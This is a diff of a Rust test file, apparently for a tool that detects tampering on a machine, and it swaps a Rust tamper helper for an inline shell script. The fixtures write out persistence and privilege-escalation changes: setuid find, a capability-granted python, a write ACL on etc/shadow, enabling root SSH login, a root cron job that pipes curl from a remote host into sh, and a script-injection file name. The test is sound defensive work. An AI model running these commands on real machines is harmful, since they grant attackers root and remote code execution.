@@ -122,15 +122,13 @@ fn an_operator_finds_what_changed_in_a_real_browser() {
     world.check();
 }
 
-/// A login shell's child that edits a file and is still there when the agent asks who it was. Not a child of the test: the line of
-/// processes shall be the editor's, not ours.
-struct Editor {
-    typing: std::process::ChildStdin,
-}
+/// A shell at work in a root, there until it is dropped, so that the agent can see who it is. Not a child of the test: the line of
+/// processes shall be the shell's, not ours.
+struct Shell(std::process::ChildStdin);
 
-impl Editor {
-    fn replaces(root: &Path, file: &str, old: &str, new: &str) -> Self {
-        let mut shell = Command::new("setsid")
+impl Shell {
+    fn at(root: &Path) -> Self {
+        let mut begun = Command::new("setsid")
             .args(["--fork", "bash"])
             .current_dir(root)
             .stdin(Stdio::piped())
@@ -138,38 +136,29 @@ impl Editor {
             .stderr(Stdio::null())
             .spawn()
             .expect("a shell");
-        let mut typing = shell.stdin.take().expect("piped");
-        write!(typing, "ed -s {file}\n,s/{old}/{new}/\nw\n").expect("keys");
-        shell.wait().expect("setsid leaves the shell behind");
-        Self { typing }
+        let typing = begun.stdin.take().expect("piped");
+        begun.wait().expect("setsid leaves the shell behind");
+        Self(typing)
     }
 
-    fn leaves(mut self) {
-        self.typing.write_all(b"q\nexit\n").expect("keys");
+    fn types(&mut self, keys: &str) {
+        self.0.write_all(keys.as_bytes()).expect("keys");
     }
 }
 
+/// An editor that is still open after writing.
+const EDIT: &str = "ed -s etc/ssh/sshd_config\n,s/#PermitRootLogin .*/PermitRootLogin yes/\nw\n";
 /// What people do to machines: each a real change on a real root.
-fn tamper(root: &Path) {
-    let below = |path: &str| root.join(path).to_str().expect("a text path").to_owned();
-    let tool = |name: &str, arguments: &[&str]| {
-        pristine_tests::program::tool(name, arguments);
-    };
-    tool("chmod", &["u+s", &below("usr/bin/find")]);
-    tool("setcap", &["cap_setuid=ep", &below("usr/bin/python3.11")]);
-    tool("setfacl", &["-m", "u:33:rw", &below("etc/shadow")]);
-    tool(
-        "ln",
-        &["-sfn", "/usr/bin/python3", &below("etc/alternatives/awk")],
-    );
-    fs::write(
-        below("etc/cron.d/sync"),
-        "* * * * * root curl -s http://203.0.113.7/s | sh\n",
-    )
-    .expect("a cron file");
-    fs::remove_file(below("etc/logrotate.d/nginx")).expect("a file less");
-    fs::write(below("srv/<script>alert(1)<\n.html"), "x").expect("a hostile name");
-}
+const TAMPER: &str = "
+PATH=$PATH:/usr/sbin:/sbin
+chmod u+s usr/bin/find
+setcap cap_setuid=ep usr/bin/python3.11
+setfacl -m u:33:rw etc/shadow
+ln -sfn /usr/bin/python3 etc/alternatives/awk
+echo '* * * * * root curl -s http://203.0.113.7/s | sh' > etc/cron.d/sync
+rm etc/logrotate.d/nginx
+echo x > $'srv/<script>alert(1)<\\n.html'
+";
 
 #[test]
 #[ignore = "makes pictures; call tests/browser/screenshots"]
@@ -202,16 +191,12 @@ fn screenshots() {
             .expect("an id")
             .to_owned()
     };
-    let editor = Editor::replaces(
-        &root,
-        "etc/ssh/sshd_config",
-        "#PermitRootLogin .*",
-        "PermitRootLogin yes",
-    );
+    let mut editor = Shell::at(&root);
+    editor.types(EDIT);
     let config = opened("./etc/ssh/sshd_config");
-    editor.leaves();
     let mut task = json!({ "folder": folder, "violation": config, "node": world.id("web-17") });
-    tamper(&root);
+    let mut shell = Shell::at(&root);
+    shell.types(TAMPER);
     let setuid = opened("./usr/bin/find");
     let cron = opened("./etc/cron.d/sync");
     if asked.is_some() {
